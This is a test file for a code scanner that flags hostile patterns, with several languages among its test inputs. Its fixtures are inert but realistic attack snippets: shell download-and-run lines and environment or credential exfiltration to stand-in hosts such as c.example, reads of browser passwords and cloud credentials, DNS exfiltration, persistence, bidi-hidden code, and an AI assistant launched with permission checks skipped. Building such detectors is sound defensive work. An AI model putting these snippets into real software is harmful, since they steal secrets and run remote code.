import { growthOf, linear } from '../../../support/growth.ts';
import type { Language } from '../../../../src/adapters/artifacts/analysis/language.ts';
import { addedRanges, hashLines } from '../../../../src/adapters/artifacts/analysis/lines.ts';
import { lookAt } from '../../../../src/adapters/artifacts/analysis/look.ts';
import { openKillable } from '../../../support/killable.ts';
import { lookAtText } from './look-at-text.ts';

function kinds(code: string, language: Language = 'javascript', path = 'lib/file.js'): readonly string[] {
  const { drafts } = lookAt({ path, language, bytes: Buffer.from(code), added: undefined });
  return [...new Set(drafts.map((draft) => draft.kind))].toSorted();
}

function evidence(code: string, kind: string, language: Language = 'javascript'): readonly string[] {
  const { drafts } = lookAt({ path: 'lib/file.js', language, bytes: Buffer.from(code), added: undefined });
  return drafts.filter((draft) => draft.kind === kind).map((draft) => draft.evidence);
}

const base64 = (text: string): string => Buffer.from(text).toString('base64');
const noise = base64('inert text that stands for a payload and does nothing at all; '.repeat(8));

/** Inert shapes of what past payloads did, each written anew. */
const shapes: readonly (readonly [string, Language, string, readonly string[]])[] = [
  [
    'code from the network is evaluated',
    'javascript',
    "require('https').get(u, (r) => r.on('data', (d) => eval(d)))",
    ['download-and-run', 'dynamic-evaluation', 'network'],
  ],
  [
    'a decoded blob is evaluated',
    'javascript',
    `new Function(Buffer.from('${noise}', 'base64').toString())()`,
    ['dynamic-evaluation', 'encoded-payload'],
  ],
  [
    'a decrypted text becomes a module',
    'javascript',
    "const t = crypto.createDecipher('aes256', k).update(data, 'hex'); module._compile(t, '')",
    ['dynamic-evaluation'],
  ],
  [
    'an address stands under base64',
    'javascript',
    `fetch(atob('${base64('https://collect.example/v1/items')}'))`,
    ['encoded-payload', 'host-literal', 'network'],
  ],
  [
    'an address stands in character codes',
    'javascript',
    `const h = [${[...'https://c.example/x'].map((c) => c.charCodeAt(0) ^ 41).join(',')}].map((c) => String.fromCharCode(c ^ 41)).join('')`,
    ['encoded-payload', 'host-literal'],
  ],
  [
    'a module name is put together',
    'javascript',
    "const cp = require('child' + '_pro' + 'cess'); cp.exec(c)",
    ['obfuscation', 'process'],
  ],
  [
    'a shell fetches and runs',
    'javascript',
    "execSync('curl -sL https://x.example/i.sh | bash')",
    ['download-and-run', 'host-literal', 'network', 'process'],
  ],
  [
    'secrets of the home folder are read',
    'javascript',
    "fs.readFileSync(path.join(os.homedir(), '.aws', 'credentials'))",
    ['credential-path'],
  ],
  [
    'the whole environment is sent',
    'javascript',
    "fetch('https://c.example/', { method: 'POST', body: JSON.stringify(process.env) })",
    ['environment-sweep', 'host-literal', 'network'],
  ],
  [
    'the environment is listed and posted',
    'python',
    'data = {"env": dict(os.environ)}\nrequests.post("https://c.example/", json=data)',
    ['environment-sweep', 'host-literal', 'network', 'secrets-sent'],
  ],
  [
    'private keys are looked for by their patterns and sent',
    'rust',
    'let a = Regex::new("0x[0-9a-fA-F]{64}"); let b = Regex::new("[1-9A-HJ-NP-Za-km-z]{32,44}"); reqwest::blocking::Client::new().post(E)',
    ['clipboard-or-wallet', 'network', 'secrets-sent'],
  ],
  [
    'the files of the running program are read and sent',
    'python',
    'for f in inspect.stack():\n    seen[f.filename] = open(f.filename).read()\nurllib.request.urlopen("https://c.example/", seen)',
    ['host-literal', 'network', 'secrets-sent'],
  ],
  [
    'a password is disguised before it is sent',
    'python',
    'body = base64.b64encode(json.dumps({"ak": ak, "sk": sk}).encode())\nurlopen("https://time.example/now?t=" + body)',
    ['host-literal', 'network', 'secrets-sent'],
  ],
  [
    'a password becomes part of an address',
    'go',
    'import "net/http"\nfunc f() { http.Get(bot + url.QueryEscape(host+":"+user+":"+password)) }',
    ['network', 'secrets-sent'],
  ],
  [
    'an address is written backwards',
    'javascript',
    "const a = 'gpj.a/elpmaxe.scip//:sptth'.split('').reverse().join(''); fetch(a)",
    ['encoded-payload', 'host-literal', 'network'],
  ],
  [
    'a command comes in a TXT record',
    'go',
    'txt, _ := net.LookupTXT("c.example.net")\nfor _, l := range txt { exec.Command(l).Run() }',
    ['download-and-run', 'process'],
  ],
  [
    'a command is put together from the pieces of a list',
    'go',
    'var v = []string{"s", "h", " ", "-", "c", "u", "r", "l"}\nvar c = exec.Command("/bin/sh", "-c", v[4]+v[5]+v[6]+v[7]+v[2]+"")\nvar d = v[4]+v[5]+v[6]+v[7]+v[2]+v[3]+v[0]+v[2]',
    ['encoded-payload', 'process'],
  ],
  [
    'a decoded variable is evaluated lines later',
    'ruby',
    "x = Base64.urlsafe_decode64(e['k'])\nlog(1)\neval(x)",
    ['dynamic-evaluation', 'encoded-payload'],
  ],
  [
    'a script of PowerShell fetches a program and starts it',
    'powershell',
    "(New-Object Net.WebClient).DownloadFile('https://c.example/u.exe', $t)\nStart-Process -FilePath $t",
    ['download-and-run', 'executable-written', 'host-literal', 'network', 'process'],
  ],
  [
    'a name look-up carries data',
    'javascript',
    "require('dns').lookup(Buffer.from(os.hostname()).toString('hex') + '.d.example.net', () => {})",
    ['dns-exfiltration'],
  ],
  [
    'an agent is left behind',
    'javascript',
    "fs.writeFileSync(path.join(os.homedir(), 'Library', 'LaunchAgents', 'x.plist'), body)",
    ['persistence'],
  ],
  [
    'an assistant is started without asking',
    'javascript',
    "spawnSync('claude', ['--dangerously-skip-permissions', '-p', prompt])",
    ['process', 'spawns-assistant'],
  ],
  [
    'the package publishes others',
    'javascript',
    "for (const d of dirs) execSync('npm publish --access public', { cwd: d })",
    ['process', 'self-publishing'],
  ],
  ['a workflow is written', 'javascript', "fs.writeFileSync('.github/workflows/audit.yml', text)", ['self-publishing']],
  [
    'a payment is redirected',
    'javascript',
    "window.ethereum.request({ method: 'eth_sendTransaction', params: [{ to }] })",
    ['clipboard-or-wallet'],
  ],
  [
    'a key is asked for and sent',
    'javascript',
    "rl.question('Enter the recovery phrase'); fetch('https://c.example/k', { body: answer })",
    ['clipboard-or-wallet', 'host-literal', 'network'],
  ],
  [
    'a file is fetched, made executable and started',
    'javascript',
    "const https = require('https'); https.get(u, (r) => r.pipe(fs.createWriteStream(f))); fs.chmodSync(f, 0o755); require('child_process').spawn(f)",
    ['download-and-run', 'executable-written', 'network', 'process'],
  ],
  [
    'names of an obfuscator',
    'javascript',
    Array.from({ length: 8 }, (_, i) => `var _0x1a2b3${i}=_0x4c5d(${i});`).join('\n'),
    ['obfuscation'],
  ],
  [
    'words written as escapes',
    'javascript',
    `var a = ["${'\\x63\\x68\\x69\\x6c\\x64\\x5f\\x70\\x72\\x6f\\x63\\x65\\x73\\x73'}", "${'\\x65\\x78\\x65\\x63\\x53\\x79\\x6e\\x63\\x46\\x69\\x6c\\x65'}"];`,
    ['obfuscation'],
  ],
  [
    'invisible characters carry data',
    'javascript',
    `const s = '${String.fromCodePoint(...Array.from({ length: 12 }, (_, i) => 0xe0101 + i))}'; run(s)`,
    ['hidden-text'],
  ],
  [
    'a direction override hides code',
    'javascript',
    "if (level != 'user\u202e \u2066// admins only\u2069 \u2066') { grant() }",
    ['hidden-text'],
  ],
  [
    'code stands out of view',
    'javascript',
    `module.exports = {};${' '.repeat(400)}require('./hidden')()`,
    ['hidden-text'],
  ],
  [
    'a chat webhook takes data',
    'javascript',
    "post('https://discord.com/api/webhooks/1/x', data)",
    ['host-literal', 'suspicious-host'],
  ],
  [
    'the metadata service is asked',
    'python',
    "requests.get('http://169.254.169.254/latest/meta-data/')",
    ['host-literal', 'network', 'suspicious-host'],
  ],
  [
    'text from the network is executed',
    'python',
    "import requests\nexec(requests.get('https://c.example/x').text)",
    ['download-and-run', 'dynamic-evaluation', 'host-literal', 'network'],
  ],
  [
    'a compressed blob is executed',
    'python',
    `exec(__import__('zlib').decompress(__import__('base64').b64decode(b'${noise}')))`,
    ['dynamic-evaluation', 'encoded-payload'],
  ],
  [
    'a program in a string is started',
    'python',
    `import subprocess, sys\nsubprocess.Popen([sys.executable, "-c", "import urllib.request as r; exec(r.urlopen('https://c.example/s').read())"])`,
    ['download-and-run', 'dynamic-evaluation', 'host-literal', 'network', 'process'],
  ],
  [
    'a browser’s passwords are read',
    'python',
    "shutil.copy(os.path.join(local, 'Google', 'Chrome', 'User Data', 'Default', 'Login Data'), t)",
    ['credential-path'],
  ],
  ['all variables are gathered', 'python', 'body = json.dumps(dict(os.environ))', ['environment-sweep']],
  [
    'a library is fetched and loaded',
    'python',
    "import ctypes, urllib.request\nurllib.request.urlretrieve(u, 'a.dll'); ctypes.CDLL('a.dll')",
    ['download-and-run', 'executable-written', 'network'],
  ],
  [
    'Ruby evaluates a page',
    'ruby',
    "Thread.new { eval(Net::HTTP.get(URI('http://paste.example/raw/1'))) }",
    ['download-and-run', 'dynamic-evaluation', 'host-literal', 'network', 'suspicious-host'],
  ],
  ['PHP evaluates a decoded text', 'php', '<?php eval(base64_decode($_x));', ['dynamic-evaluation', 'encoded-payload']],
  [
    'PHP drops and starts a file',
    'php',
    "<?php file_put_contents($f, file_get_contents('https://c.example/a')); chmod($f, 0755); exec($f);",
    ['download-and-run', 'executable-written', 'host-literal', 'network', 'process'],
  ],
  [
    'a build script fetches and runs',
    'rust',
    'fn main() { Command::new("sh").arg("-c").arg("curl https://c.example/p | sh"); }',
    ['download-and-run', 'host-literal', 'network', 'process'],
  ],
  [
    'Go starts what it downloads',
    'go',
    'import "os/exec"\nfunc init() { exec.Command("/bin/sh", "-c", "wget -O - https://c.example/z | /bin/bash &").Run() }',
    ['download-and-run', 'host-literal', 'network', 'process'],
  ],
  [
    'a shell script unpacks and runs',
    'shell',
    'xz -dc tests/files/x.xz | tail -c +1024 | /bin/sh\n',
    ['download-and-run'],
  ],
  [
    'PowerShell runs a download',
    'powershell',
    "iex (New-Object Net.WebClient).DownloadString('https://c.example/p.ps1')",
    ['download-and-run', 'host-literal', 'network'],
  ],
  [
    'a batch file fetches and registers',
    'batch',
    'curl -s https://c.example/a.dll -o a.dll\r\nregsvr32 /s a.dll\r\n',
    ['download-and-run', 'executable-written', 'host-literal', 'network', 'process'],
  ],
];

describe('lookAt finds', () => {
  it.each(shapes)('%s (%s)', (_name, language, code, expected) => {
    expect(kinds(code, language)).toEqual(expect.arrayContaining([...expected]));
  });
});

/** Ordinary code that has been taken for a payload before. */
const ordinary: readonly (readonly [string, Language, string, readonly string[]])[] = [
  [
    'settings of one prefix are read beside a client',
    'python',
    'for k, v in os.environ.items():\n    if k.startswith("MYAPP_"):\n        cfg[k] = v\nrequests.get(cfg["MYAPP_URL"])',
    ['network'],
  ],
  [
    'a password signs in',
    'python',
    'auth = base64.b64encode(f"{user}:{password}".encode())\nrequests.get(url, headers={"Authorization": b"Basic " + auth})',
    ['network'],
  ],
  [
    'a form signs in',
    'javascript',
    'fetch(url, { method: "POST", body: `user=${user}&password=${password}` })',
    ['network'],
  ],
  [
    'a table is used by number here and there',
    'go',
    'var v = []string{"a", "b", "c", "d", "e", "f", "g"}\nvar x = v[1] + v[2] + ","',
    [],
  ],
  [
    'the global object by Function',
    'javascript',
    "var root = freeGlobal || freeSelf || Function('return this')();",
    [],
  ],
  [
    'a child with the parent’s environment',
    'javascript',
    "spawn(cmd, args, { env: { ...process.env, FORCE_COLOR: '1' } })",
    [],
  ],
  [
    'a name looked up with options and a callback that builds texts',
    'javascript',
    "const dns = require('dns'); dns.lookup(options.host, { all: true }, (error, found) => { done(`${error}` + found) })",
    [],
  ],
  [
    'debug settings out of the environment',
    'javascript',
    'Object.keys(process.env).filter(key => /^debug_/i.test(key))',
    [],
  ],
  [
    'a command in a comment',
    'javascript',
    '// install with: curl https://x.example/i.sh | bash\n/* eval(atob("x")) */\nexport const a = 1;',
    [],
  ],
  ['a help text about publishing', 'javascript', "console.log('When ready, run npm publish to release');", []],
  ['one variable of the environment', 'javascript', 'const token = process.env.GITHUB_TOKEN;', []],
  [
    'WebAssembly as base64',
    'javascript',
    `const wasm = Buffer.from('AGFzbQ${'AbC1'.repeat(500)}', 'base64'); new WebAssembly.Module(wasm)`,
    [],
  ],
  [
    'a list of words',
    'javascript',
    `const words = [${Array.from({ length: 60 }, (_, i) => `"word${i}"`).join(',')}];`,
    [],
  ],
  [
    'a list of hashes',
    'javascript',
    `const k = [${Array.from({ length: 60 }, (_, i) => `"0x428a2f98d728ae${(i + 16).toString(16)}"`).join(',')}];`,
    [],
  ],
  [
    'accented letters as escapes',
    'javascript',
    `const t = { a: "${'\\u00e9\\u00e8\\u00ea\\u00eb\\u00e0'}", b: "${'\\u03b1\\u03b2\\u03b3\\u03b4'}" };`,
    [],
  ],
  ['a table of direction controls', 'javascript', "const bidi = ['\u202a', '\u202b', '\u202e', '\u2066'];", []],
  ['an emoji with joiners and selectors', 'javascript', "const family = '👨\u200d👩\u200d👧 ❤\ufe0f 🏴󠁧󠁢󠁥󠁮󠁧󠁿';", []],
  [
    'a template that compiles to a function',
    'javascript',
    "return new Function('data', source)",
    ['dynamic-evaluation'],
  ],
  [
    'a donation address in a message',
    'javascript',
    "log('Thank you! Bitcoin donations go to bc1qlea7544qtsmj2rayg0lthvza9fau63ux0fstcz if you like')",
    [],
  ],
  ['a copy of the environment in Python', 'python', "env = os.environ.copy()\nenv['A'] = '1'\n", []],
  ['regular expressions that compile', 'python', "import re\np = re.compile(r'eval\\((.*)\\)')\n", []],
];

describe('lookAt passes over', () => {
  it.each(ordinary)('%s (%s)', (_name, language, code, allowed) => {
    expect(kinds(code, language)).toEqual(allowed);
  });
});

describe('lookAt', () => {
  const old = 'const fs = require("fs");\nfetch("https://api.example/");\nmodule.exports = fs;\n';

  it('counts only lines that the old file did not have', () => {
    const bytes = Buffer.from(`${old}  eval(x);\n`);
    const added = addedRanges(bytes, hashLines(Buffer.from(old)));
    const { drafts } = lookAt({ path: 'a.js', language: 'javascript', bytes, added });
    expect(drafts.map((draft) => draft.kind)).toEqual(['dynamic-evaluation', 'download-and-run']);
  });

  it('says nothing where only the indent changed', () => {
    const bytes = Buffer.from(old.replaceAll('\n', '\r\n   '));
    expect(addedRanges(bytes, hashLines(Buffer.from(old)))).toEqual([]);
  });

  it('finds new statements on the one line of a bundle', () => {
    const bundle = Array.from({ length: 400 }, (_, i) => `function a${i}(b){return b+${i}};`).join('');
    const bytes = Buffer.from(`${bundle}eval(q);function z(){};`);
    const added = addedRanges(bytes, hashLines(Buffer.from(`${bundle}function z(){};`)));
    expect(added.reduce((sum, range) => sum + range.to - range.from, 0)).toBeLessThan(40);
  });

  it('sees a packed block in a file that people write, and none in a bundle', () => {
    const block = Array.from({ length: 60 }, (_, i) => `a(b(${i}),c);d[e]=f(g(h));`).join('');
    const readable = Array.from({ length: 20 }, (_, i) => `const name${i} = value(${i});`).join('\n');
    const code = `${readable}\n${block}\n`;
    expect(kinds(code)).toEqual(['obfuscation']);
    expect(kinds(code, 'javascript', 'dist/app.min.js')).toEqual([]);
  });

  it('names the address that was hidden', () => {
    const text = base64('https://drop.example/a');
    expect(evidence(`get(atob('${text}'))`, 'encoded-payload')[0]).toContain('https://drop.example/a');
  });

  describe.each(['javascript', 'python', 'shell'] as const)('at hostile %s', (language) => {
    const pieces = ['(', '"', '`${', 'a+', '[1,', '=', '/*', 'curl ', '\\'];
    const quoted = (piece: string, n: number) => (piece === '=' ? `"${piece.repeat(n)}"` : piece.repeat(n));

    it.each(pieces)('looks with work that grows with the number of %j', (piece) => {
      expect(growthOf((n) => lookAtText(quoted(piece, n), language), 2_000)).toBeLessThan(linear);
    });

    it('looks to the end, without trying every way to read it', async () => {
      const thread = await openKillable(new URL('./look-at-text.ts', import.meta.url));
      for (const piece of pieces) {
        const text = quoted(piece, 200_000 / piece.length);
        expect(await thread.call('lookAtText', text, language)).toMatchObject({ ended: 'well' });
      }
      await thread.close();
    });
  });
});

describe('texts that a helper picks from letters', () => {
  const letters = [...'abcdefghijklmnopqrstuvwxyz:/.'];
  const indexes = [...'https://a.example/x'].map((letter) => letters.indexOf(letter)).join(', ');

  it('are read where a run of numbers spells an address', () => {
    const go = `var l = []string{${letters.map((one) => `"${one}"`).join(', ')}}\nfunc init() { run(pick(${indexes})) }`;
    expect(evidence(go, 'encoded-payload', 'go')[0]).toContain('https://a.example/x - written as list look-ups');
  });

  it('are nothing where the numbers spell nothing or the list holds words', () => {
    const list = letters.map((one) => `"${one}"`).join(', ');
    expect(kinds(`const l = [${list}]; at(1, 2, 3, 4, 5, 6, 7)`)).toEqual([]);
    expect(kinds(`const l = [${list.replaceAll('"a"', '"alpha"')}]; at(${indexes})`)).toEqual([]);
  });
});

describe('the constructor of a constructor', () => {
  it('is an evaluation, and beside the network one of what was fetched', () => {
    const text =
      "const c = require('axios'); c.get(u).then((r) => { const m = f.constructor.constructor; m('require', r)() })";
    expect(kinds(text)).toContain('download-and-run');
  });

  it('is nothing when it is asked for once', () => {
    expect(kinds('return new this.constructor(options)')).toEqual([]);
  });
});

describe('names of PHP functions', () => {
  it('are read backwards and from pieces', () => {
    expect(evidence("<?php $f = strrev('nepo_corp'); $g = 'pr' . 'oc_open';", 'obfuscation', 'php')[0]).toContain(
      'proc_open',
    );
    expect(kinds("<?php echo strrev('desserts');", 'php')).toEqual([]);
  });
});
